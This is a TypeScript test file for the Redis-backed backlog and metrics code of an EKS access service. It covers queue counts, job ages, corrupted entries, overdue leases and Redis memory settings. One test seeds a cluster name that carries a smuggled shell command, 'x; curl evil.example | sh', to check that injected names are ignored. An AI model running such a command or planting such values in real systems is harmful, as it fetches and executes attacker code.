import { Worker } from "bullmq";
import { afterEach, beforeEach, expect, test } from "vitest";
import { nextClusterTry } from "../../src/access/retry.ts";
import { backlogOf } from "../../src/bin/backlog.ts";
import { connectRedis, connectRedisBlocking, type RedisConnection } from "../../src/ledger/connect.ts";
import { redisLedger } from "../../src/ledger/ledger.ts";
import { openQueues, type Queues, queuePrefix, wake } from "../../src/ledger/queues.ts";
import { aCluster } from "../builders/a-cluster.ts";
import { aPlannedMigration } from "../builders/a-migration.ts";
import { aLeasedRequest, aRequest } from "../builders/a-request.ts";
import { aChange, anEvent } from "../builders/an-event.ts";
import { silentContext } from "../fault/silent-context.ts";
import { asAdministrator } from "../ledger/a-ledger-on.ts";
import { aRedis, type TestRedis } from "../redis.ts";

let database: TestRedis;
let connection: RedisConnection;
let queues: Queues;

beforeEach(async () => {
  database = await aRedis();
  connection = await connectRedis(database.url);
  queues = openQueues(connection.redis);
});
afterEach(async () => {
  await queues.close();
  await connection.close();
  await database.close();
});

const metrics = (now = new Date()) => {
  const ledger = redisLedger(connection.redis);
  const clusters = new Map([["staging", aCluster()]]);
  const context = { ...silentContext(ledger), queues, now: () => now };
  return backlogOf(
    { ...context, configuration: () => ({ clusters }) } as unknown as Parameters<typeof backlogOf>[0],
    connection.redis,
  );
};

const minutesAgo = (minutes: number) => ({ timestamp: Date.now() - minutes * 60_000 });

/** The state of the clusters' queue. */
async function told(now?: Date) {
  const [clusters] = await metrics(now).queues();
  return clusters;
}

test("jobs are counted where they wait, wait for their time or by priority, and run", async () => {
  const { clusters } = queues;
  await wake(queues, { type: "reconcile", cluster: "first" });
  const blocking = connectRedisBlocking(database.url);
  let done = () => {};
  const isDone = new Promise<void>((resolve) => {
    done = resolve;
  });
  const worker = new Worker("clusters", () => isDone, { connection: blocking, prefix: queuePrefix });
  await expect.poll(() => clusters.getActiveCount()).toBe(1);
  await wake(queues, { type: "reconcile", cluster: "second" });
  await wake(queues, { type: "reconcile", cluster: "third" });
  await clusters.add("alive", { type: "alive" }, { delay: 60_000 });
  await clusters.add("alive", { type: "alive" }, { priority: 3 });

  expect((await told())?.jobs).toEqual({ waiting: 2, prioritized: 1, delayed: 1, active: 1 });

  done();
  await worker.close();
  blocking.disconnect();
});

test("the age is that of the oldest job, wherever it waits, and 0 where none does", async () => {
  const { clusters } = queues;
  const now = new Date();
  const empty = await told(now);
  await clusters.add("alive", { type: "alive" }, { delay: 60_000, ...minutesAgo(30) });
  await clusters.add("alive", { type: "alive" }, { delay: 1_000, ...minutesAgo(20) });
  await clusters.add("alive", { type: "alive" }, { priority: 3, ...minutesAgo(10) });
  await clusters.add("alive", { type: "alive" }, minutesAgo(5));
  await clusters.add("alive", { type: "alive" });

  const ages = [];
  for (const state of ["delayed", "delayed", "prioritized", "waiting"] as const) {
    ages.push(Math.round(((await told(now))?.ageSeconds ?? 0) / 60));
    const [oldest] = (await clusters.getJobs([state])).sort((a, b) => a.timestamp - b.timestamp);
    await oldest?.remove();
  }

  expect(empty?.ageSeconds).toBe(0);
  expect(ages).toEqual([30, 20, 10, 5]);
});

test("a job for a later time has no age before it", async () => {
  const { clusters } = queues;
  const now = new Date();
  await clusters.add("alive", { type: "alive" }, { delay: 90_000 });

  expect((await told(now))?.ageSeconds).toBe(0);
  expect((await told(new Date(now.getTime() + 120_000)))?.ageSeconds).toBeGreaterThan(100);
});

test("a job that someone garbled in Redis hides the age of no other", async () => {
  const { clusters } = queues;
  const { id } = await clusters.add("alive", { type: "alive" }, minutesAgo(9));
  await connection.redis.hset(`{eks-access}:clusters:${id}`, {
    opts: "garbage",
    data: "garbage",
    timestamp: "garbage",
  });
  await connection.redis.set("{eks-access}:clusters:2", "garbage");
  await connection.redis.rpush("{eks-access}:clusters:wait", "2");
  await connection.redis.set("{eks-access}:clusters:id", 2);
  await clusters.add("alive", { type: "alive" }, minutesAgo(5));

  expect(Math.round(((await told())?.ageSeconds ?? 0) / 60)).toBe(5);
});

test("open requests and the begun migration of a cluster that left the configuration are counted, by its name", async () => {
  const ledger = redisLedger(connection.redis);
  await ledger.commit(aChange(aRequest()));
  await ledger.commit(aChange(aRequest({ id: "r-2", cluster: "gone" })));
  await ledger.commit(aChange(aRequest({ id: "r-3", cluster: "closed", state: "denied" })));

  // An operator would copy it from doctor.
  const planned = aPlannedMigration({ cluster: "planned", id: "migration-planned-1" });
  const migrations = [aPlannedMigration({ cluster: "gone", id: "migration-gone-1", state: "running" }), planned];
  for (const after of migrations) await ledger.commit({ after, event: anEvent({ request: after.id }) });
  await connection.redis.hset("{eks-access}:open-by-cluster", "x; curl evil.example | sh", 1, "--help", 1);

  expect(await metrics().openUnconfigured()).toEqual(new Map([["gone", 2]]));
  expect((await metrics().tally()).requests.get("pending")).toBe(2);
});

test("leases past their end are counted after a minute, and a cluster that no worker can open by its time", async () => {
  const ledger = redisLedger(connection.redis);
  const now = new Date();
  const ago = (seconds: number) => new Date(now.getTime() - seconds * 1000).toISOString();
  const late = (seconds: number) => ({ state: "active", endsAt: ago(seconds) }) as const;
  await ledger.commit(aChange(aLeasedRequest(late(61), { version: 1 })));
  await ledger.commit(aChange(aLeasedRequest(late(59), { id: "r-2", version: 1 })));
  const before = await metrics(now).closedFor();
  const failure = { code: "aws-refused", message: "AWS refused." };
  const trouble = nextClusterTry(null, failure, { now: new Date(ago(90)), configuration: "now", chance: 0 });
  await ledger.setClusterTrouble("staging", trouble);
  const closed = await metrics(now).closedFor();
  await ledger.setClusterTrouble("staging", { ...trouble, overAt: ago(1) });

  expect(await metrics(now).overdue()).toEqual(new Map([["staging", 1]]));
  expect([before, closed, await metrics(now).closedFor()]).toEqual([new Map(), new Map([["staging", 90]]), new Map()]);
});

test("a log that takes no event is reported", async () => {
  const before = await metrics().logFlaw();
  await connection.redis.set("{eks-access}:events", "garbage");

  expect([before, await metrics().logFlaw()]).toEqual([null, expect.stringContaining("WRONGTYPE")]);
});

test("the used part of Redis' memory is reported if it has a limit", async () => {
  await asAdministrator(database.url, (redis) => redis.config("SET", "maxmemory", "0"));
  const unlimited = await metrics().memoryUsed();
  await asAdministrator(database.url, (redis) => redis.config("SET", "maxmemory", "1gb"));

  const used = await metrics().memoryUsed();

  await asAdministrator(database.url, (redis) => redis.config("SET", "maxmemory", "0"));
  expect(unlimited).toBeNull();
  expect(used).toBeGreaterThan(0);
  expect(used).toBeLessThan(1);
});

test("a Redis that evicts when it is full is reported", async () => {
  const evicts = async (policy: string) => {
    await asAdministrator(database.url, (redis) => redis.config("SET", "maxmemory-policy", policy));
    return metrics().mayEvict();
  };

  expect([await evicts("volatile-lru"), await evicts("noeviction")]).toEqual([true, false]);
});
